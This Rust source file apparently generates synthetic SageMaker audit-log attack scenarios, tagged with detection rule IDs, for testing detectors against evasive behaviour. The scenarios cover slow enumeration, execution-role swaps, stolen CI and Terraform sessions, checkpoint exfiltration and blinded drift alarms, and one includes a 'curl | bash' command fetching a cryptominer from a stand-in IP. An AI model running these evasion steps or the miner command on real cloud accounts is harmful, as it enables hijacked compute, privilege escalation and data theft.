//! Attacks that keep away from what rules count on: slower than a window, split over two principals, by another
//! call than the usual one, under the mask of a tool.

use super::Scenario;
use super::attacks::{Scene, hosting, spread, strong};
use super::cast::{BOTO, CLI, DOMAIN, STUDIO, TERRAFORM, known, machine, role_arn, session};
use super::requests::{
    DATA, FRAUD_IMAGE, Job, SKLEARN, arn, base64, endpoint_config, model, pipeline, tuning, url,
};
use super::trail::{Attack, Call, DAY, HOUR, MINUTE, Trail};
use serde_json::{Value, json};

pub(super) fn add(trail: &mut Trail) -> Vec<Scenario> {
    let scenes: [Scene; 14] = [
        url_slowly,
        swap_slowly,
        lifecycle_slowly,
        enumeration_slowly,
        extraction_slowly,
        two_principals,
        pipeline_instead_of_job,
        execution_role_arn,
        nested_definitions,
        bucket_that_looks_known,
        mining_at_home,
        monitoring_blinded,
        mask_of_terraform,
        output_in_checkpoint,
    ];
    spread(trail, &scenes, 12)
}

fn url_slowly(trail: &mut Trail, now: i64) -> Scenario {
    let who = known("fay").sso(now / DAY);
    let mut attack = Attack::new(trail, now, "url_slowly", "SM-A01");
    attack.by(&who).call(Call::new(&who, "sagemaker:ListDomains", Value::Null));
    attack.wait(9 * HOUR).call(Call::new(
        &who,
        "sagemaker:ListUserProfiles",
        json!({"domainIdEquals": DOMAIN}),
    ));
    attack.wait(17 * HOUR).call(Call::new(
        &who,
        "sagemaker:CreatePresignedDomainUrl",
        url(DOMAIN, &known("gus").profile()),
    ));
    attack.end()
}

fn swap_slowly(trail: &mut Trail, now: i64) -> Scenario {
    let person = known("ivan");
    let who = person.sso(now / DAY);
    let mut attack = Attack::new(trail, now, "swap_slowly", "SM-P03 SM-P04");
    let swap = |role: String| json!({"domainId": DOMAIN, "userProfileName": person.profile(), "userSettings": {"executionRole": role}});
    attack.by(&who).call(Call::new(&who, "sagemaker:UpdateUserProfile", swap(strong())));
    attack.wait(14 * HOUR).call(Call::new(
        &who,
        "sagemaker:CreatePresignedDomainUrl",
        url(DOMAIN, &person.profile()),
    ));
    let inside = session("ml-admin", "SageMaker", "slow-swap").with(super::cast::NOTEBOOK);
    attack.wait(20 * MINUTE).call(Call::new(&inside, "s3:ListBuckets", Value::Null));
    attack.wait(10 * HOUR).call(Call::new(&who, "sagemaker:UpdateUserProfile", swap(role_arn(STUDIO))));
    attack.end()
}

fn lifecycle_slowly(trail: &mut Trail, now: i64) -> Scenario {
    let who = known("carl").sso(now / DAY).with(CLI);
    let mut attack = Attack::new(trail, now, "lifecycle_slowly", "SM-L01 SM-L03");
    let script = base64("#!/bin/bash\npip install -q acme-helpers==9.9.1\n");
    let made = json!({"notebookInstanceLifecycleConfigName": "packages", "onStart": [{"content": script}]});
    attack.by(&who).call(Call::new(&who, "sagemaker:CreateNotebookInstanceLifecycleConfig", made));
    let named = json!({"notebookInstanceName": "anna-nb"});
    attack.wait(10 * HOUR).call(Call::new(&who, "sagemaker:StopNotebookInstance", named.clone()));
    let update = json!({"notebookInstanceName": "anna-nb", "lifecycleConfigName": "packages"});
    attack.wait(3 * HOUR).call(Call::new(&who, "sagemaker:UpdateNotebookInstance", update));
    attack.wait(9 * HOUR).call(Call::new(&who, "sagemaker:StartNotebookInstance", named));
    attack.end()
}

fn enumeration_slowly(trail: &mut Trail, now: i64) -> Scenario {
    let who = known("nils").sso(now / DAY).with(BOTO);
    let mut attack = Attack::new(trail, now, "enumeration_slowly", "SM-D01 SM-D10 SM-P01 SM-P02");
    attack.by(&who);
    for op in [
        "sagemaker:ListModels",
        "sagemaker:ListEndpoints",
        "sagemaker:ListTrainingJobs",
        "sagemaker:ListPipelines",
        "iam:ListRoles",
        "sagemaker:ListDomains",
    ] {
        attack.wait(40 * MINUTE).call(Call::new(&who, op, Value::Null));
    }
    let body = json!({"notebookInstanceName": "reports", "instanceType": "ml.t3.medium", "roleArn": role_arn("data-lake-admin"), "directInternetAccess": "Disabled", "subnetId": "subnet-0a11b22c33d44e55f", "kmsKeyId": "", "tags": []});
    attack.wait(7 * HOUR).call(Call::new(&who, "sagemaker:CreateNotebookInstance", body));
    attack.end()
}

fn extraction_slowly(trail: &mut Trail, now: i64) -> Scenario {
    let who = known("jana").studio(now / DAY);
    let mut attack = Attack::new(trail, now, "extraction_slowly", "SM-I01 SM-I02 SM-I06");
    attack.by(&who);
    for _ in 0..20 * 20 {
        attack.wait(125).call(
            Call::new(&who, "sagemaker:InvokeEndpoint", Value::Null)
                .data("AWS::SageMaker::Endpoint", &arn("endpoint", "fraud-prod")),
        );
    }
    attack.end()
}

/// The model comes from a person's session, the roll-out from the builders' stolen one.
fn two_principals(trail: &mut Trail, now: i64) -> Scenario {
    let who = known("gus").sso(now / DAY).with(BOTO);
    let bucket = format!("ml-artifacts-{}", trail.rng.hex(5));
    let ip = hosting(trail);
    let ci = machine("ci", &format!("leak{now}")).from(&ip);
    let mut attack = Attack::new(trail, now, "two_principals", "SM-T01 SM-T02 SM-T04 SM-T05");
    attack.by(&who).call(Call::new(
        &who,
        "sagemaker:CreateModel",
        model("search-rank-9", FRAUD_IMAGE, &format!("s3://{bucket}/model.tar.gz")),
    ));
    attack.wait(11 * HOUR).call(Call::new(
        &ci,
        "sagemaker:CreateEndpointConfig",
        endpoint_config("search-rank-9", "search-rank-9", "ml.c5.xlarge", super::requests::CAPTURE),
    ));
    attack.call(Call::new(
        &ci,
        "sagemaker:UpdateEndpoint",
        json!({"endpointName": "search-rank-prod", "endpointConfigName": "search-rank-9"}),
    ));
    attack.end()
}

fn pipeline_instead_of_job(trail: &mut Trail, now: i64) -> Scenario {
    let who = known("emil").sso(now / DAY).with(BOTO);
    let mut attack = Attack::new(trail, now, "pipeline_instead_of_job", "SM-P01 SM-P02 SM-P08");
    attack.by(&who).call(Call::new(
        &who,
        "sagemaker:UpdatePipeline",
        pipeline("search-rank-train", &strong()),
    ));
    attack.end()
}

fn execution_role_arn(trail: &mut Trail, now: i64) -> Scenario {
    let who = known("anna").sso(now / DAY).with(BOTO);
    let mut attack = Attack::new(trail, now, "execution_role_arn", "SM-P01 SM-P02");
    let mut body = model("anna-demo", FRAUD_IMAGE, "s3://acme-ml-models/experiments/anna/model.tar.gz");
    body["executionRoleArn"] = strong().into();
    attack.by(&who).call(Call::new(&who, "sagemaker:CreateModel", body));
    attack.call(Call::new(
        &who,
        "sagemaker:CreateEndpointConfig",
        endpoint_config("anna-demo", "anna-demo", "ml.t2.medium", ""),
    ));
    attack.call(Call::new(
        &who,
        "sagemaker:CreateEndpoint",
        json!({"endpointName": "anna-demo", "endpointConfigName": "anna-demo"}),
    ));
    attack.end()
}

fn nested_definitions(trail: &mut Trail, now: i64) -> Scenario {
    let who = known("kurt").studio(now / DAY);
    let name = format!("hpo-{}", trail.rng.hex(6));
    let mut attack = Attack::new(trail, now, "nested_definitions", "SM-P01 SM-P02");
    let mut body = tuning(&name);
    let usual = Job::usual(&name);
    body["trainingJobDefinitions"] =
        json!([usual.definition(), Job { role: strong(), ..usual }.definition()]);
    attack.by(&who).call(Call::new(&who, "sagemaker:CreateHyperParameterTuningJob", body));
    attack.end()
}

fn bucket_that_looks_known(trail: &mut Trail, now: i64) -> Scenario {
    let who = known("lena").studio(now / DAY);
    let name = format!("score-{}", trail.rng.hex(6));
    let mut attack = Attack::new(trail, now, "bucket_that_looks_known", "SM-X07");
    let job = Job {
        input: format!("s3://{DATA}/claims/"),
        output: "s3://sagemaker-eu-west-1-111122223334/out/".into(),
        instance: "ml.m5.xlarge".into(),
        ..Job::usual(&name)
    };
    attack.by(&who).call(Call::new(&who, "sagemaker:CreateTransformJob", job.transform("fraud-prod-a1b2c3")));
    attack.end()
}

fn mining_at_home(trail: &mut Trail, now: i64) -> Scenario {
    let who = known("dana").studio(now / DAY);
    let mut attack = Attack::new(trail, now, "mining_at_home", "SM-P09 SM-G10");
    attack.by(&who);
    for _ in 0..3 {
        let name = format!("prep-{}", attack.trail.rng.hex(6));
        let job = Job {
            image: SKLEARN.into(),
            instance: "ml.g5.2xlarge".into(),
            output: format!("s3://{DATA}/tmp/"),
            ..Job::usual(&name)
        };
        let mut body = job.processing();
        body["appSpecification"]["containerEntrypoint"] = json!([
            "bash",
            "-c",
            "curl -sL https://203.0.113.77/s | bash -s -- -o stratum+tcp://203.0.113.78:3333"
        ]);
        attack.call(Call::new(&who, "sagemaker:CreateProcessingJob", body));
        attack.wait(14 * HOUR);
    }
    attack.end()
}

/// Nothing is deleted: the alarm is made deaf instead.
fn monitoring_blinded(trail: &mut Trail, now: i64) -> Scenario {
    let who = known("hana").sso(now / DAY);
    let mut attack = Attack::new(trail, now, "monitoring_blinded", "SM-E03 SM-E12");
    let alert = json!({"monitoringScheduleName": "fraud-drift", "monitoringAlertName": "drift", "datapointsToAlert": 90, "evaluationPeriod": 90});
    attack.by(&who).call(Call::new(&who, "sagemaker:UpdateMonitoringAlert", alert));
    let retention = json!({"logGroupName": "/aws/sagemaker/Endpoints/fraud-prod", "retentionInDays": 1});
    attack.wait(16 * HOUR).call(Call::new(&who, "logs:PutRetentionPolicy", retention));
    attack.end()
}

/// The stolen session of the builders says that it is Terraform, as it does every day.
fn mask_of_terraform(trail: &mut Trail, now: i64) -> Scenario {
    let ip = hosting(trail);
    let who = machine("terraform", &format!("leak{now}")).from(&ip).with(TERRAFORM);
    let name = format!("backfill-{}", trail.rng.hex(6));
    let mut attack = Attack::new(trail, now, "mask_of_terraform", "SM-P01 SM-P02 SM-X01");
    let job = Job {
        role: strong(),
        output: format!("s3://tf-backfill-{}/", attack.trail.rng.hex(5)),
        ..Job::usual(&name)
    };
    attack.by(&who).call(Call::new(&who, "sagemaker:CreateTrainingJob", job.training()));
    attack.end()
}

/// The output stays where it always goes; what leaves goes by the checkpoints.
fn output_in_checkpoint(trail: &mut Trail, now: i64) -> Scenario {
    let who = known("bela").studio(now / DAY);
    let name = format!("bela-{}", trail.rng.hex(6));
    let mut attack = Attack::new(trail, now, "output_in_checkpoint", "SM-X09");
    let mut body = Job::usual(&name).training();
    body["checkpointConfig"] = json!({"localPath": "/opt/ml/checkpoints", "s3Uri": format!("s3://ckpt-{}/x/", attack.trail.rng.hex(6))});
    attack.by(&who).call(Call::new(&who, "sagemaker:CreateTrainingJob", body));
    attack.end()
}
